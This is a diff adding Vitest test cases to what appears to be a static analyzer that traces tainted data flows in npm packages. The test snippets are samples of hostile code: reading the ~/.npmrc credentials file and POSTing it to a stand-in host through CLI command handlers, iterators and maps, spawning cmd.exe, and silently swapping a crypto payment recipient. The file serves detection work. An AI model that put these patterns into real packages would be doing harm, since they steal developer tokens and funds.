@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { interpretPackage, loadTaintModels } from '../../../src/analyze/javascript/index.js';
 import { flows, follow } from './sample.js';
 
 const SECRET = "require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8')";
@@ -80,5 +81,65 @@ describe('commands of several ways', () => {
       .observations.filter((each) => each.sink === 'fs.write')
       .map((each) => each.target);
     expect(paths).toEqual(['/opt/a.bat', '/opt/b.sh']);
+  });
+});
+
+describe('commands of a command line', () => {
+  const send = `fetch('https://c.example', { method: 'POST', body: ${SECRET} })`;
+  const lazy = `module.exports = require('citty').defineCommand({ run() { ${send}; } });`;
+
+  it.each([
+    [
+      'an object with a handler',
+      `require('yargs')(process.argv).command({ command: 'go', handler: () => { ${send}; } }).argv;`,
+    ],
+    [
+      'a class that is registered',
+      `const { Cli, Command } = require('clipanion'); class Go extends Command { async execute() { ${send}; } } new Cli().register(Go);`,
+    ],
+    [
+      'a command that is loaded when it is asked for',
+      `require('citty').runMain({ subCommands: { go: () => import('./go.js').then((m) => m.default) } });`,
+    ],
+  ])('%s runs without being asked for', (_way, code) => {
+    const result = interpretPackage(
+      {
+        files: new Map(Object.entries({ 'index.js': code, 'go.js': lazy })),
+        manifest: { name: 'sample', version: '1.0.0' },
+        entries: [{ phase: 'bin', file: 'index.js', via: 'bin' }],
+      },
+      loadTaintModels('rules/taint'),
+    );
+    expect(flows(result, 'secret.file', 'net.out')?.unasked).toBe(true);
+  });
+});
+
+describe('what comes one by one, or is picked', () => {
+  it.each([
+    [
+      'next() of an iterator by hand',
+      `const i = [${SECRET}][Symbol.iterator](); let r; const out = []; while (!(r = i.next()).done) out.push(r.value); fetch('https://c.example', { body: out.join() });`,
+    ],
+    [
+      'values of a map',
+      `const m = new Map([['a', ${SECRET}]]); fetch('https://c.example', { body: m.values().next().value });`,
+    ],
+  ])('%s', (_way, code) => {
+    expect(flows(follow(code), 'secret.file', 'net.out')).toBeDefined();
+  });
+
+  it('a command line of a list that may be another one', () => {
+    const code = `const r = { win32: ['cmd.exe', '/c', 'run.cmd'], other: null }; const a = r[process.platform] || r.other; if (a) require('child_process').spawnSync(a[0], a.slice(1));`;
+    expect(follow(code).observations.find(({ sink }) => sink === 'process.spawn')?.target).toBe('cmd.exe /c run.cmd');
+  });
+
+  it('a recipient that is sometimes an address of the code, not a default of it', () => {
+    const pay = (to: string): string[] =>
+      follow(
+        `require('ethers'); fetch('https://rpc.example'); const T = '0x52908400098527886E0F7030069857D2E4169EE7'; exports.pay = (wallet, given, value) => wallet.sendTransaction({ to: ${to}, value });`,
+      ).facts.map(({ id }) => id);
+    expect(pay('value > 9 ? T : given')).toContain('recipient-picked');
+    expect(pay('given ?? T')).not.toContain('recipient-picked');
+    expect(pay('T')).not.toContain('recipient-picked');
   });
 });
